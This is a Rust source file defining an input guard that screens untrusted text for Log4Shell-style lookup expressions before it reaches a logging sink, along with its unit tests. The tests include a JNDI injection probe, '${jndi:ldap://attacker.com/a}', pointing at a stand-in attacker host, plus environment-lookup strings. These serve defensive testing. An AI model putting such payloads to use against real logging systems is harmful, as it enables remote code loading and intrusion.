//! Input screening ahead of the logging sink

use crate::audit::AuditLogger;
use crate::config::GuardConfig;
use crate::lookup::LookupDetector;
use crate::sink::LogSink;
use crate::types::{AuditEntry, AuditOutcome, Classification, RequestContext, ThreatKind};
use std::sync::Arc;
use tracing::error;

/// Response body returned for blocked input
pub const BLOCKED_RESPONSE: &str = "Suspicious input was blocked";
/// Response body prefix returned for forwarded input
pub const LOGGED_PREFIX: &str = "Logged: ";

/// Sink message for forwarded input
pub const FORWARD_TEMPLATE: &str = "user input";
/// Sink message when the literal marker fires
const BLOCK_MARKER_TEMPLATE: &str = "blocked suspicious input";
/// Sink message when the expression shape fires
const BLOCK_EXPRESSION_TEMPLATE: &str = "blocked potentially malicious input";

/// Screens untrusted text before it may reach the logging sink.
///
/// The sink is injected at construction; `InputGuard` owns no global state
/// and holds no locks, so concurrent requests can share one instance.
pub struct InputGuard {
    detector: LookupDetector,
    audit: AuditLogger,
    sink: Arc<dyn LogSink>,
}

/// Result of screening one input
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScreenOutcome {
    /// The verdict
    pub classification: Classification,
    /// Response body for the caller
    pub response: String,
}

impl InputGuard {
    /// Create a guard with the given configuration and sink
    pub fn new(config: GuardConfig, sink: Arc<dyn LogSink>) -> Self {
        Self {
            detector: LookupDetector::new(config.detector),
            audit: AuditLogger::new(config.audit),
            sink,
        }
    }

    /// Classify one untrusted value.
    ///
    /// Total and pure: absent input is safe, and the same input always
    /// yields the same verdict. No side effects.
    pub fn evaluate(&self, raw: Option<&str>) -> Classification {
        let Some(text) = raw else {
            return Classification::Safe;
        };
        match self.detector.scan(text) {
            Some(threat) => Classification::Blocked(threat),
            None => Classification::Safe,
        }
    }

    /// Classify, notify the sink exactly once, audit the decision and
    /// produce the response body for the caller.
    ///
    /// A sink fault is reported to the operator and suppressed; screening
    /// never fails the request and never retries.
    pub fn screen(&self, raw: Option<&str>) -> ScreenOutcome {
        let context = RequestContext::new();
        let classification = self.evaluate(raw);
        let text = raw.unwrap_or("");

        match classification {
            Classification::Blocked(threat) => {
                let template = match threat {
                    ThreatKind::LiteralMarker => BLOCK_MARKER_TEMPLATE,
                    ThreatKind::LookupExpression => BLOCK_EXPRESSION_TEMPLATE,
                };
                if let Err(fault) = self.sink.warn(template, text) {
                    error!(error = %fault, "log sink fault, entry dropped");
                }
                self.audit.record(&AuditEntry {
                    context,
                    outcome: AuditOutcome::Blocked { threat },
                    raw: text.to_string(),
                });
                ScreenOutcome {
                    classification,
                    response: BLOCKED_RESPONSE.to_string(),
                }
            }
            Classification::Safe => {
                if let Err(fault) = self.sink.error(FORWARD_TEMPLATE, text) {
                    error!(error = %fault, "log sink fault, entry dropped");
                }
                self.audit.record(&AuditEntry {
                    context,
                    outcome: AuditOutcome::Forwarded,
                    raw: text.to_string(),
                });
                ScreenOutcome {
                    classification,
                    response: format!("{}{}", LOGGED_PREFIX, text),
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AuditConfig;
    use crate::error::{Result, SinkError};
    use crate::sink::{RecordingSink, Severity};

    /// Sink whose backend always faults
    struct FailingSink;

    impl LogSink for FailingSink {
        fn warn(&self, _template: &str, _raw: &str) -> Result<()> {
            Err(SinkError::Backend("appender down".to_string()))
        }

        fn error(&self, _template: &str, _raw: &str) -> Result<()> {
            Err(SinkError::Backend("appender down".to_string()))
        }
    }

    fn quiet_config() -> GuardConfig {
        GuardConfig {
            audit: AuditConfig {
                enabled: false,
                log_file: None,
            },
            ..Default::default()
        }
    }

    fn guard_with(sink: Arc<dyn LogSink>) -> InputGuard {
        InputGuard::new(quiet_config(), sink)
    }

    #[test]
    fn evaluate_is_total_and_idempotent() {
        let guard = guard_with(Arc::new(RecordingSink::new()));

        assert_eq!(guard.evaluate(None), Classification::Safe);
        assert_eq!(guard.evaluate(Some("")), Classification::Safe);
        assert_eq!(guard.evaluate(Some("hello world")), Classification::Safe);

        let probe = Some("${jndi:ldap://attacker.com/a}");
        let first = guard.evaluate(probe);
        let second = guard.evaluate(probe);
        assert_eq!(first, Classification::Blocked(ThreatKind::LiteralMarker));
        assert_eq!(first, second);
    }

    #[test]
    fn blocked_input_warns_the_sink_exactly_once() {
        let sink = Arc::new(RecordingSink::new());
        let guard = guard_with(sink.clone());

        let outcome = guard.screen(Some("${jndi:ldap://attacker.com/a}"));
        assert!(outcome.classification.is_blocked());
        assert_eq!(outcome.response, BLOCKED_RESPONSE);

        let calls = sink.calls();
        assert_eq!(calls.len(), 1);
        assert_eq!(calls[0].severity, Severity::Warning);
        assert_eq!(calls[0].raw, "${jndi:ldap://attacker.com/a}");
    }

    #[test]
    fn expression_without_marker_is_blocked() {
        let sink = Arc::new(RecordingSink::new());
        let guard = guard_with(sink.clone());

        let outcome = guard.screen(Some("${env:PATH}"));
        assert_eq!(
            outcome.classification,
            Classification::Blocked(ThreatKind::LookupExpression)
        );
        assert_eq!(outcome.response, BLOCKED_RESPONSE);
        assert_eq!(sink.calls()[0].severity, Severity::Warning);
    }

    #[test]
    fn safe_input_reaches_the_sink_verbatim_at_error_level() {
        let sink = Arc::new(RecordingSink::new());
        let guard = guard_with(sink.clone());

        let outcome = guard.screen(Some("hello world"));
        assert_eq!(outcome.classification, Classification::Safe);
        assert_eq!(outcome.response, "Logged: hello world");

        let calls = sink.calls();
        assert_eq!(calls.len(), 1);
        assert_eq!(calls[0].severity, Severity::Error);
        assert_eq!(calls[0].template, FORWARD_TEMPLATE);
        assert_eq!(calls[0].raw, "hello world");
    }

    #[test]
    fn absent_and_empty_input_are_safe() {
        let sink = Arc::new(RecordingSink::new());
        let guard = guard_with(sink.clone());

        assert_eq!(guard.screen(None).response, "Logged: ");
        assert_eq!(guard.screen(Some("")).response, "Logged: ");
        assert_eq!(sink.calls().len(), 2);
    }

    #[test]
    fn sink_fault_is_suppressed() {
        let guard = guard_with(Arc::new(FailingSink));

        // Both paths must complete despite the faulting backend.
        let safe = guard.screen(Some("hello"));
        assert_eq!(safe.response, "Logged: hello");

        let blocked = guard.screen(Some("${jndi:x}"));
        assert_eq!(blocked.response, BLOCKED_RESPONSE);
    }
}
